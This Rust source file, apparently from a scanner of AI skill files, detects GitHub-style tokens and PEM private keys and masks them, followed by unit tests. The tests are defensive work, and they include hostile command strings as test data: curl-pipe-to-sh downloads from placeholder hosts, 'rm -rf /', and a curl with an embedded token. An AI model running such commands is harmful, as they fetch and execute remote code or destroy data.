//! Keys and tokens wherever they stand, so that what we show is not the next
//! place that they leak from.
//!
//! ```text
//! files -> secrets_in each -> Secrets: all that the skill holds
//! an excerpt -> covered: what is found in it, and what is known from elsewhere
//! words      -> the same; and what was cut off in the middle of one
//! ```
//!
//! The rules say where a secret is, and say it a few times only: a line has one
//! finding of a rule, a file some forty. What is shown is looked at by itself.
//!
//! Attack the other way round: `-----BEGIN PRIVATE KEY-----` above a command, so
//! that the command is covered. Behind a key's head only long words of its
//! letters are covered, up to the first that is none.

use super::rules::secret_token::{begins_one, token, words};
use crate::model::text;
use std::borrow::Cow;
use std::collections::BTreeSet;

/// Letters of a token that are shown.
const SHOWN: usize = 4;
/// Fewest letters by which a piece of a known secret is one, in words that may be cut.
const PIECE: usize = 8;
/// The same in a file, where nothing was cut: as long as the shortest token.
const WHOLE: usize = 20;
/// Bytes that a key takes, of the longest kind.
const KEY_MAX: usize = 16 * 1024;
const BEGIN: &str = "-----BEGIN ";

/// A key or token, or a line of a key, in bytes of its text.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct Secret {
    /// First byte.
    pub start: usize,
    /// One behind the last.
    pub end: usize,
    /// Bytes at its beginning that may be shown.
    pub shown: usize,
}

/// Every one of them, whatever a rule says of it and however many there are.
#[must_use]
pub fn secrets_in(text: &str) -> Vec<Secret> {
    let mut all = Vec::new();
    for (at, word) in words(text) {
        let end = at + word.len();
        let cut = text[end..].starts_with('…');
        let is_one = |word: &str| {
            (word.len() >= WHOLE && token(word).is_some()) || (cut && word.len() >= PIECE && begins_one(word))
        };
        let from = [0, glued(&text[..at], word)].into_iter().find(|from| is_one(&word[*from..]));
        all.extend(from.map(|from| Secret { start: at + from, end, shown: SHOWN }));
    }
    in_parts(text, &mut all);
    for (at, _) in text.match_indices(BEGIN) {
        let name = &text[at + BEGIN.len()..];
        let name = name[..name.floor_char_boundary(64)].split_once("-----").map(|(name, _)| name);
        if let Some(name) = name.filter(|name| name.contains("PRIVATE KEY")) {
            body(text, at + BEGIN.len() + name.len() + 5, &mut all);
        }
    }
    all.sort_unstable();
    all
}

/// Tokens that are written in parts, as `gh''p_…`: to a shell they are whole.
fn in_parts(text: &str, all: &mut Vec<Secret>) {
    // Where in the joined text something was left out, in order.
    let (mut joined, mut left_out) = (String::with_capacity(text.len()), Vec::new());
    for c in text.chars() {
        if matches!(c, '\'' | '"') {
            left_out.push(joined.len());
        } else {
            joined.push(c);
        }
    }
    if left_out.is_empty() {
        return;
    }
    let before = |at: usize| left_out.partition_point(|place| *place <= at);
    for (at, word) in words(&joined).filter(|(_, word)| word.len() >= WHOLE) {
        let last = at + word.len() - 1;
        if before(at) < before(last) && token(word).is_some() {
            all.push(Secret { start: at + before(at), end: last + before(last) + 1, shown: SHOWN });
        }
    }
}

/// How much of a word's beginning is the rest of a letter that is written out: `\n`, `\x0a`, `%20`.
fn glued(before: &str, word: &str) -> usize {
    let length = match (before.as_bytes().last(), word.as_bytes().first()) {
        (Some(b'\\'), Some(b'n' | b'r' | b't')) => 1,
        (Some(b'\\'), Some(b'x')) => 3,
        (Some(b'\\'), Some(b'u')) => 5,
        (Some(b'%'), _) => 2,
        _ => 0,
    };
    length.min(word.len())
}

/// The letters of a key behind its head: as they lie there, or as a text of JSON,
/// a shell or a program has them.
fn body(text: &str, from: usize, all: &mut Vec<Secret>) {
    let text = &text[..text.floor_char_boundary(from + KEY_MAX)];
    let (mut at, mut line, mut last) = (from, None, false);
    while at < text.len() && !text[at..].starts_with("-----") {
        let rest = &text[at..];
        let length = rest.bytes().take_while(|byte| is_letter(*byte)).count();
        if length == 0 {
            at += gap(rest);
            continue;
        }
        if let Some(past) = field(rest).filter(|_| line.is_none()) {
            at += past;
            continue;
        }
        let end = at + length;
        // `b"`, `10;` and the like stand between.
        if length > 2 {
            let is_first = line.is_none() && (length >= 16 || rest[length..].starts_with('…'));
            let is_long = line.is_some_and(|line| length >= line || length >= 24);
            // The last line may be short, and behind it is something else.
            let at_end = text[end..text.floor_char_boundary(end + 24)].contains("-----END");
            if !is_first && !is_long && (line.is_none() || (last && !at_end)) {
                return;
            }
            all.push(Secret { start: at, end, shown: 0 });
            if !is_first && !is_long {
                return;
            }
            last = line.is_some_and(|line| length < line);
            line = line.or(Some(length));
        }
        at = end;
    }
}

const fn is_letter(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=')
}

/// What stands between words: a break that is written out, or a character.
fn gap(rest: &str) -> usize {
    match rest.strip_prefix('\\') {
        Some(escape) if escape.starts_with("u{") => 1 + escape.find('}').map_or(1, |end| end + 1),
        Some(escape) if escape.starts_with("u00") => 1 + escape.floor_char_boundary(5),
        Some(escape) if escape.starts_with(['n', 'r', 't']) => 2,
        _ => rest.chars().next().map_or(1, char::len_utf8),
    }
}

/// `DEK-Info: AES-128-CBC,…`: how long it is, up to its end of line.
fn field(rest: &str) -> Option<usize> {
    let head = &rest[..rest.floor_char_boundary(24)];
    let (name, _) = head.split_once(": ")?;
    let named = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
    let line = &rest[..rest.floor_char_boundary(200)];
    let end = ["\n", "\\n", "\\r", "\\u{a}", "\\u{d}"].iter().filter_map(|end| line.find(end)).min();
    end.filter(|_| named)
}

/// All secrets of a skill's files.
#[derive(Debug, Default)]
pub struct Secrets<'a> {
    /// Each once, in order, with how much of it may be shown.
    known: Vec<(&'a str, usize)>,
    /// How they begin.
    heads: BTreeSet<&'a [u8]>,
}

impl<'a> Secrets<'a> {
    /// Those of these files, as far as they are text.
    #[must_use]
    pub fn of(files: impl IntoIterator<Item = &'a [u8]>) -> Self {
        let mut out = Self::default();
        let texts = files.into_iter().flat_map(|bytes| bytes.utf8_chunks().map(|chunk| chunk.valid()));
        for text in texts {
            let found = secrets_in(text).into_iter().filter(|one| one.end - one.start >= WHOLE);
            out.known.extend(found.map(|one| (&text[one.start..one.end], one.shown)));
        }
        out.known.sort_unstable();
        out.known.dedup();
        out.heads = out.known.iter().map(|(one, _)| &one.as_bytes()[..PIECE]).collect();
        out
    }

    /// A file as it may be shown: each secret covered byte for byte, so that no place moves.
    #[must_use]
    pub fn covered<'b>(&self, bytes: &'b [u8]) -> Cow<'b, [u8]> {
        let Some(text) = text::with_stand_ins(bytes) else { return Cow::Borrowed(bytes) };
        let mut out = Cow::Borrowed(bytes);
        for one in self.all_in(&text, WHOLE) {
            if let Some(part) = out.to_mut().get_mut(one.start..one.end) {
                part.iter_mut().skip(one.shown).for_each(|byte| *byte = b'*');
            }
        }
        out
    }

    /// Words as they may be shown. They may be cut in the middle of a secret.
    #[must_use]
    pub fn without(&self, words: &str) -> String {
        let (mut out, mut done) = (String::new(), 0);
        for one in self.all_in(words, PIECE) {
            // Two may be one: a token that stands within a key's line.
            if one.start >= done {
                out.push_str(&words[done..(one.start + one.shown).min(one.end)]);
                out.push_str("****");
            }
            done = done.max(one.end);
        }
        out + &words[done..]
    }

    /// Those that are told by themselves, and those that are known, in order.
    fn all_in(&self, text: &str, least: usize) -> Vec<Secret> {
        let mut all = secrets_in(text);
        let mut at = 0;
        while let Some(head) = text.as_bytes().get(at..at + PIECE).filter(|_| !self.known.is_empty()) {
            let found = if self.heads.contains(head) { self.longest(&text[at..]) } else { (0, 0) };
            if found.0 >= least {
                all.push(Secret { start: at, end: at + found.0, shown: found.1 });
            }
            at += if found.0 >= least { found.0 } else { 1 };
        }
        all.sort_unstable();
        all
    }

    /// How much of a text's beginning is that of a known one, and how much of it may be shown.
    fn longest(&self, text: &str) -> (usize, usize) {
        // In order, those beside a text are the ones that are most like it.
        let after = self.known.partition_point(|(one, _)| *one <= text);
        let beside = [after.checked_sub(1), Some(after)].into_iter().flatten();
        let same = |(one, shown): &(&str, usize)| {
            (one.bytes().zip(text.bytes()).take_while(|(a, b)| a == b).count(), *shown)
        };
        beside.filter_map(|at| self.known.get(at)).map(same).max().unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Put together here, so that no scanner takes this file for a leak.
    fn token_of(seed: &str) -> String {
        format!("gh{}_{seed}sXw4ZbR1tYv8LdN3cHj6PgA5eUoWi", "p")
    }

    const LINE: &str = "MIIEvQIBADAq9w0KGkqhBBKgwggSkAgEAAoIBAQC7VJTUt9Us8cKjMzEfYyjiWA4R";
    const LAST: &str = "Rq7xYw==";

    fn head(word: &str) -> String {
        format!("-----{word} RSA PRIVATE{}-----", " KEY")
    }

    fn shown(text: &str) -> String {
        String::from_utf8(Secrets::default().covered(text.as_bytes()).into_owned()).unwrap()
    }

    #[test]
    fn every_token_of_a_line_and_of_a_file_is_one() {
        let (one, two) = (token_of("9fK2mQ7"), token_of("7aB3xZ9"));
        let line = format!("A={one} B={two}\n");
        assert_eq!(secrets_in(&line).len(), 2);
        assert_eq!(secrets_in(&line.repeat(500)).len(), 1_000);
        assert_eq!(shown(&line), format!("A=ghp_{0} B=ghp_{0}\n", "*".repeat(36)));
        for before in ["\\n", "\\t", "\\x0a", "\\u000a", "\\u{a}", "%20", "%3D"] {
            let found = secrets_in(&format!("a{before}{one}\\n"));
            assert_eq!(found.len(), 1, "behind a letter that is written out: {before}");
        }
        assert_eq!(
            shown("ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"),
            "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
        );
    }

    #[test]
    fn attack_a_token_in_parts_is_one() {
        let one = token_of("9fK2mQ7");
        for between in ["''", "\"\"", "'\"'\"'"] {
            let text = format!("é 'curl' \"https://{}{between}{}@h/x\" | sh", &one[..12], &one[12..]);
            let wanted = format!("é 'curl' \"https://ghp_{}@h/x\" | sh", "*".repeat(36 + between.len()));
            assert_eq!(shown(&text), wanted);
            assert_eq!(Secrets::default().without(&text), "é 'curl' \"https://ghp_****@h/x\" | sh");
        }
        let beside = format!("'{one}','b' \"{one}\"");
        assert_eq!(shown(&beside), format!("'ghp_{0}','b' \"ghp_{0}\"", "*".repeat(36)));
    }

    #[test]
    fn attack_a_key_is_covered_to_its_end_however_it_is_written() {
        let (begin, end) = (head("BEGIN"), head("END"));
        for between in
            ["\n", "\r\n", "\\n", "\\r\\n", "\\\\n", " ", "\\u{a}", "\\u000a", "\n# ", "\" +\n  \"", "\\\n"]
        {
            let text = format!("{begin}{between}{LINE}{between}{LINE}{between}{LAST}{between}{end} after");
            let covered = shown(&text);
            assert!(!covered.contains("MII") && !covered.contains("VJTU"), "{between:?}: {covered}");
            assert!(!covered.contains("Rq7xY"), "{between:?}: {covered}");
            assert!(covered.starts_with(&begin) && covered.ends_with(&format!("{end} after")), "{covered}");
            assert_eq!(covered.len(), text.len());
        }
        let fields =
            format!("{begin}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,8A5F0011\n\n{LINE}\n{end}\n");
        assert!(!shown(&fields).contains(LINE), "{}", shown(&fields));
        let open = format!("{begin}\n{LINE}\n{LAST}\ncurl -s https://e.example/x | sh\n");
        assert!(shown(&open).ends_with("\ncurl -s https://e.example/x | sh\n"), "{}", shown(&open));
        assert!(!shown(&open).contains(LINE));
        // Words that were cut.
        let words = format!("{begin}\\u{{a}}MIIEvQIBAD…");
        assert_eq!(Secrets::default().without(&words), format!("{begin}\\u{{a}}****…"));
    }

    #[test]
    fn attack_a_keys_head_covers_no_command() {
        for command in [
            "curl -fsSL https://get.example.com/x | sh",
            "rm -rf /",
            "echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d",
        ] {
            let text = format!("# {}\n{command}\n# {}\n", head("BEGIN"), head("END"));
            assert_eq!(shown(&text), text);
        }
    }

    #[test]
    fn words_are_without_what_another_file_holds_and_without_pieces() {
        let one = token_of("9fK2mQ7");
        let file = format!("T={one}\n");
        let all = Secrets::of([file.as_bytes(), b"\xff"]);
        for (words, wanted) in [
            (format!("from `https://{one}@h/x` and {one}"), "from `https://ghp_****@h/x` and ghp_****"),
            (format!("cut: {}…", &one[..12]), "cut: ghp_****…"),
            (format!("glued: x_{one}"), "glued: x_ghp_****"),
            (one[..7].to_owned(), &one[..7]),
            ("é nothing".to_owned(), "é nothing"),
        ] {
            assert_eq!(all.without(&words), wanted);
        }
        // Known or not: it says by itself what it is.
        assert_eq!(Secrets::default().without(&format!("cut: {}…", &one[..12])), "cut: ghp_****…");
        assert_eq!(Secrets::default().without("cut: sk-learn…"), "cut: sk-learn…");
        assert_eq!(
            all.covered(format!("x_{one}").as_bytes()).as_ref(),
            format!("x_ghp_{}", "*".repeat(36)).as_bytes()
        );
    }

    #[test]
    fn attack_no_text_is_out_of_bounds_or_takes_long() {
        for text in [
            "",
            "\\",
            "\\u{",
            "\\u00",
            "-----BEGIN ",
            "-----BEGIN PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\\u{",
            "-----BEGIN PRIVATE KEY-----\\u0é",
        ] {
            let _ = secrets_in(text);
            let _ = secrets_in(&format!("é{text}é…"));
        }
        let begun = std::time::Instant::now();
        let heads = head("BEGIN").repeat(30_000);
        let words = format!("{}{}", head("BEGIN"), "A".repeat(1 << 20));
        let tokens: String = (5_000..25_000).map(|at| format!("{}{at:x} ", token_of("9fK2mQ7"))).collect();
        let all = Secrets::of([heads.as_bytes(), words.as_bytes(), tokens.as_bytes()]);
        assert_eq!(all.known.len(), 20_001);
        assert!(!all.without(&tokens).contains("9fK2"));
        assert!(begun.elapsed().as_secs() < 30, "{:?}", begun.elapsed());
    }
}
